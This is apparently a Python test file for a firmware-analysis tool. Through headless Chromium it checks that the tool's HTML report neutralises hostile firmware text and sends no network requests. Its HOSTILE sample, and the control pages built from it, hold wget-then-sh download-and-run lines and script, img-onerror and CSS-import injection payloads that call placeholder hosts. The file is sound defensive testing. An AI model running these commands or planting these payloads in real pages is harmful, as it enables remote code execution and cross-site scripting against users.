"""Why: the HTML report is opened by people in a browser, and what it shows came from hostile firmware. So: a real browser opens it,
finds what it should hold, runs nothing of the firmware's, asks nobody for anything, and is done in under a second for a large image."""
import html
import html.parser
import json
import os
import pathlib
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest

BIOPSY = os.environ["BIOPSY"]
CHROMIUM = shutil.which("chromium")
HOSTILE = """wget -O /tmp/a "http://203.0.113.9/<script>document.title='owned'</script>" && sh /tmp/a
wget -O /tmp/b "http://203.0.113.9/<img src=http://198.51.100.77/beacon onerror=document.title='owned'>" && sh /tmp/b
telnetd -l '"><style>@import url(http://198.51.100.77/s)</style><a href="javascript:0">x' \x1b]0;owned\x07 \udcff\udcfe
"""


class Recorder:
    """A proxy that notes who is asked for, and answers nothing."""

    def __init__(self):
        self.asked = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.asked.append(connection.recv(2000).split(b"\r\n")[0].decode(errors="replace"))
                    connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    pass

    def close(self):
        self.socket.close()


class Tags(html.parser.HTMLParser):
    """The tags of a page with their attributes."""

    @staticmethod
    def of(text):
        reader = Tags()
        reader.found = []
        reader.feed(text)
        return reader.found

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, attributes))


@unittest.skipUnless(CHROMIUM, "needs chromium")
class Page(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
        cls.path = pathlib.Path(cls.folder.name)

    @classmethod
    def tearDownClass(cls):
        cls.folder.cleanup()

    def browse(self, page, *more):
        profile = tempfile.mkdtemp(dir=self.path)
        words = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--disable-extensions", "--hide-scrollbars", "--user-data-dir=" + profile, *more, page.as_uri()]
        result = subprocess.run(words, capture_output=True, timeout=120)
        self.assertEqual(result.returncode, 0, result.stderr.decode(errors="replace")[-500:])
        return result.stdout.decode()

    def dom(self, page, *more):
        return self.browse(page, "--dump-dom", *more)

    def report_on(self, script):
        root = pathlib.Path(tempfile.mkdtemp(dir=self.path)) / "device"
        (root / "etc/init.d").mkdir(parents=True)
        rcs = root / "etc/init.d/rcS"
        rcs.write_bytes(b"#!/bin/sh\n" + script.encode("utf-8", "surrogateescape"))
        rcs.chmod(0o755)
        (root / "etc" / "<b>bold").write_text("x")
        subprocess.run([BIOPSY, "scan", str(root), "-o", str(root.parent / "r.html"), "-o", str(root.parent / "r.json"), "-q"], timeout=60)
        return root.parent / "r.html", json.loads((root.parent / "r.json").read_text())

    def test_the_browser_finds_what_the_result_holds(self):
        page, result = self.report_on("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\ntelnetd\n")
        dom = self.dom(page)
        self.assertIn("<title>device: biopsy report</title>", dom)
        self.assertGreaterEqual(len(result["findings"]), 2)
        self.assertEqual(len(re.findall(r'<article class="finding ', dom)), len(result["findings"]))
        for finding in result["findings"]:
            self.assertIn(html.escape(finding["id"]), dom)
        # the script ran, so that the policy admits it: the filter is no longer hidden; and without it nothing is missing
        self.assertIn('<div class="tools"><input', dom)
        self.assertIn('<div class="tools" hidden><input', page.read_text())

    def test_nothing_of_the_firmware_acts(self):
        page, result = self.report_on(HOSTILE)
        self.assertIn("<script>document.title", json.dumps(result), "the hostile text must reach the report")
        dom = self.dom(page, "--virtual-time-budget=3000")
        self.assertIn("<title>device: biopsy report</title>", dom)
        self.assertEqual(dom.count("<script"), 1)
        self.assertEqual(dom.count("<style"), 1)
        for tag in ("<img", "<a href=\"javascript", "<b>", "<iframe"):
            self.assertNotIn(tag, dom)
        # the control: the same text unescaped does act, so that this test can fail
        control = self.path / "control.html"
        control.write_text("<title>device</title>" + HOSTILE.encode("utf-8", "replace").decode())
        self.assertIn("<title>owned</title>", self.dom(control, "--virtual-time-budget=3000"))

    def test_the_policy_stops_what_an_escape_would_have_missed(self):
        page, _ = self.report_on("telnetd\n")
        broken = page.with_name("broken.html")
        broken.write_text(page.read_text().replace("<h2>Findings</h2>", "<h2>Findings</h2><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"))
        self.assertIn("<title>device: biopsy report</title>", self.dom(broken, "--virtual-time-budget=3000"))

    def test_nobody_is_asked_for_anything(self):
        recorder = Recorder()
        through = ("--proxy-server=127.0.0.1:%d" % recorder.port, "--virtual-time-budget=3000")
        page, _ = self.report_on(HOSTILE)
        self.dom(page, *through)
        quiet = [line for line in recorder.asked if "198.51.100" in line or "203.0.113" in line]
        self.assertEqual(quiet, [])
        control = self.path / "asks.html"
        control.write_text("<img src=http://198.51.100.77/beacon>")
        self.dom(control, *through)
        self.assertTrue(any("198.51.100.77" in line for line in recorder.asked), "the recorder must see what is asked")
        recorder.close()
        for tag, attributes in Tags.of(self.dom(page)):
            for name, value in attributes:
                self.assertFalse(name in ("src", "action", "srcset", "data") or (name == "href" and not value.startswith("#")), (tag, name, value))
                self.assertFalse(name.startswith("on"), (tag, name))

    def test_a_300_binary_image_opens_in_under_a_second(self):
        _, result = self.report_on("wget -O /tmp/x http://203.0.113.9/x\nsh /tmp/x\ntelnetd\n")
        device = result["images"] and result
        binary = [dict(path=f"/usr/lib/part{i % 12}/program{i}", kind="binary", depth="modelled", note="", size=40000 + i, sha256="%064x" % i) for i in range(300)]
        data = [dict(path=f"/usr/share/data{i % 40}/sub{i % 7}/file{i}", kind="data", depth="", note="", size=i, sha256="") for i in range(4000)]
        device["files"] = binary + data
        finding = device["findings"][0]
        device["findings"] = [dict(finding, id=f"{finding['id']}-{i + 2}", files=[f"/usr/lib/program{i}"]) for i in range(300)]
        (self.path / "large.json").write_text(json.dumps(result))
        subprocess.run([BIOPSY, "report", str(self.path / "large.json"), "-o", str(self.path / "large.html")], check=True, timeout=60)
        blank = self.path / "blank.html"
        blank.write_text("<title>blank</title>")

        def seconds(page):
            start = time.monotonic()
            self.browse(page, "--window-size=1200,900", "--screenshot=" + str(self.path / "shot.png"))
            return time.monotonic() - start
        # beside an empty page, so that the browser's own start is not counted; in turns, and the least of each, for a shared machine
        empty, large = [], []
        while len(large) < 4 or (min(large) - min(empty) >= 1.0 and len(large) < 12):
            empty.append(seconds(blank))
            large.append(seconds(self.path / "large.html"))
        extra = min(large) - min(empty)
        print("large page beside a blank one: %.2f s more" % extra)
        self.assertLess(extra, 1.0)


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
